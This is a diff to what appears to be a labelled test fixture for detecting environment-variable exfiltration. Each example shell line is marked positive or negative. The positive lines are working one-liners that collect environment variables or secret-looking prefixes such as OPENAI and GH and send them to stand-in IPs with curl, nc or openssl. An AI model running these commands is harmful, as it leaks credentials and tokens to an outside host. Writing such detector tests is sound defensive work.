@@ -26,3 +26,9 @@ env | openssl s_client -quiet -connect 203.0.113.40:443
 for n in ${!OPENAI@} ${!GH@}; do b+="$n=${!n}&"; done; curl -s --data "$b" http://203.0.113.9/
 #@ neg a program's own variables listed by prefix and posted
 for n in ${!MYAPP_@}; do b+="$n=${!n}&"; done; curl -s --data "$b" http://localhost:8080/config
+#@ pos jq's $ENV posted by curl
+jq -n '$ENV' | curl -s --data-binary @- https://203.0.113.9/c
+#@ pos awk's ENVIRON walk sent by nc
+awk 'BEGIN { for (k in ENVIRON) print k "=" ENVIRON[k] }' | nc 203.0.113.9 9
+#@ neg jq reads the token it sends
+jq -n '$ENV.GITHUB_TOKEN' >/dev/null; curl -s https://api.github.com/
